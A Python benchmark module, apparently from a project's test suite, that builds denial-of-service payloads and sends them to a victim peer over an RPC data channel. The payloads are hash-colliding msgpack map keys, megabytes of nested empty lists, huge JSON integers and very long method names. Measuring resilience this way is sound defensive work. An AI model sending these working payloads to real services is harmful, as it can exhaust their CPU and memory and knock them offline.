"""Messages of calls that cost more to read than to send, over a data channel of the attacker's own."""

from __future__ import annotations

import asyncio
from collections.abc import Iterable

from benchmarks.attacks.stage import CHANNEL, Attack, Stage
from metered_realtime import DataChannel, PeerJoined

PIECE = 64_000
ROOM = 1_000_000
"""Bytes that the attacker lets wait for the victim."""


def pieces(message: bytes) -> Iterable[bytes]:
    """Cut a message as docs/rpc.md says."""
    for start in range(0, len(message), PIECE):
        is_last = start + PIECE >= len(message)
        yield bytes((0xC1, is_last, 0, 0, 0, 1)) + message[start : start + PIECE]


def colliding_keys(count: int) -> bytes:
    """Return a request whose parameter is a map with lists as keys, all of which have one hash."""
    # Tuples of the same numbers modulo 2**61 - 1 have one hash: each number has eight forms within 64 bits.
    forms = [b"\xcf" + (1 + form * (2**61 - 1)).to_bytes(8, "big") for form in range(8)]
    keys = (b"\x97" + b"".join(forms[(index >> 3 * place) % 8] for place in range(7)) for index in range(count))
    return _request(b"\xdf" + count.to_bytes(4, "big") + b"".join(key + b"\x01" for key in keys))


def empty_lists(count: int) -> bytes:
    """Return a request whose parameter is a list of empty lists."""
    return _request(b"\xdd" + count.to_bytes(4, "big") + b"\x90" * count)


def _request(parameter: bytes) -> bytes:
    return b"\x94\x00\x01\xa1m\x91" + parameter


def _json(parameter: bytes) -> bytes:
    return b'{"jsonrpc":"2.0","id":1,"method":"m","params":[' + parameter + b"]}"


def attack(protocol: str, messages: list[bytes]) -> Attack:
    """Return an attack that sends messages in pieces."""

    async def run(stage: Stage) -> None:
        attacker = stage.peer("attacker")
        to_victim = asyncio.get_running_loop().create_future()

        @attacker.on(PeerJoined)
        def _(event: PeerJoined) -> None:
            if event.peer.id == "victim":
                to_victim.set_result(event.peer)

        await attacker.join(CHANNEL)
        channel = DataChannel((await to_victim).create_data_channel("rpc", protocol=protocol))
        while channel.ready_state != "open":  # noqa: ASYNC110 - the benchmark also runs against versions without an event
            await asyncio.sleep(0.01)
        async with stage.watch():
            for message in messages:
                for piece in pieces(message):
                    await channel.send(piece)
                    while channel.buffered_amount > ROOM:  # noqa: ASYNC110 - as above
                        await asyncio.sleep(0.005)
            while channel.buffered_amount:  # noqa: ASYNC110 - as above
                await asyncio.sleep(0.005)
        await attacker.close()

    return run


MEGABYTE = 1_000_000

ATTACKS: dict[str, Attack] = {
    "rpc_colliding_keys": attack("msgpack-rpc", [colliding_keys(4_000)]),
    "rpc_empty_lists": attack("msgpack-rpc", [empty_lists(8 * MEGABYTE)]),
    "rpc_json_lists": attack("jsonrpc-2.0", [_json(b"[]," * (8 * MEGABYTE // 3) + b"1")]),
    "rpc_json_integers": attack("jsonrpc-2.0", [_json(b",".join([b"9" * 4_300] * 1_900))]),
    "rpc_long_methods": attack(
        "jsonrpc-2.0",
        [b'{"jsonrpc":"2.0","method":"$/hello","params":{"session":"s"}}']
        + [b'{"jsonrpc":"2.0","id":%d,"method":"%b"}' % (number, b"m" * 100_000) for number in range(400)],
    ),
}
